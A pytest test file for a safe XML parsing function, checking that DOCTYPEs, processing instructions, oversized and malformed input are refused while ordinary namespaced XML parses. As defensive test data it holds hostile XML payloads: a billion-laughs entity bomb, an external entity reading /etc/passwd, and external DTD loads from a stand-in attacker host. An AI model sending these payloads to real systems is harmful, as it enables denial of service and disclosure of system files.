"""Hostile XML is refused before anything reads it; ordinary XML parses."""

import pytest

from mgops.caseflow.core.signing.errors import UnsafeXmlError
from mgops.caseflow.core.signing.safe_xml import DEFAULT_MAX_BYTES
from mgops.caseflow.core.signing.safe_xml import parse_untrusted


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<decision>&lol9;</decision>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE decision [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<decision>&secret;</decision>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE decision SYSTEM "http://attacker.invalid/decision.dtd">
<decision/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE decision [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<decision/>"""


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_any_doctype_is_refused(data):
    with pytest.raises(UnsafeXmlError) as raised:
        parse_untrusted(data)
    assert raised.value.reason == "xml_doctype_forbidden"
    assert "root:" not in str(raised.value)


def test_external_dtd_in_a_local_file_is_never_read(tmp_path):
    dtd = tmp_path / "decision.dtd"
    dtd.write_text('<!ENTITY leak "LEAKED">')
    data = f'<!DOCTYPE decision SYSTEM "{dtd.as_uri()}"><decision>&leak;</decision>'
    with pytest.raises(UnsafeXmlError) as raised:
        parse_untrusted(data.encode())
    assert raised.value.reason == "xml_doctype_forbidden"


def test_undeclared_entity_is_malformed():
    with pytest.raises(UnsafeXmlError) as raised:
        parse_untrusted(b"<decision>&secret;</decision>")
    assert raised.value.reason == "xml_malformed"


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml-stylesheet type="text/xsl" href="http://x.invalid/a.xsl"?><decision/>',
        b"<decision><?php echo 1; ?></decision>",
    ],
)
def test_processing_instructions_are_refused(data):
    with pytest.raises(UnsafeXmlError) as raised:
        parse_untrusted(data)
    assert raised.value.reason == "xml_processing_instruction_forbidden"


def test_huge_file_is_refused_before_parsing():
    data = b"<decision>" + b"x" * DEFAULT_MAX_BYTES + b"</decision>"
    with pytest.raises(UnsafeXmlError) as raised:
        parse_untrusted(data)
    assert raised.value.reason == "xml_too_large"
    assert raised.value.text == "The file is larger than 5 MB."


def test_size_limit_is_configurable():
    with pytest.raises(UnsafeXmlError):
        parse_untrusted(b"<decision>1234</decision>", max_bytes=10)


@pytest.mark.parametrize("data", [b"", b"<decision>", b"not xml", b"<a/><b/>"])
def test_malformed_xml_is_refused_with_a_line(data):
    with pytest.raises(UnsafeXmlError) as raised:
        parse_untrusted(data)
    assert raised.value.reason == "xml_malformed"
    assert raised.value.mapping["line"] >= 1


def test_ordinary_xml_parses_with_comments_and_namespaces():
    root = parse_untrusted(
        b"<?xml version='1.0' encoding='UTF-8'?>\n"
        b'<d:decision xmlns:d="urn:x"><!-- note -->'
        b"<d:content>Za\xc5\xbc\xc3\xb3\xc5\x82\xc4\x87</d:content></d:decision>"
    )
    assert root.tag == "{urn:x}decision"
    assert root.findtext("{urn:x}content") == "Zażółć"
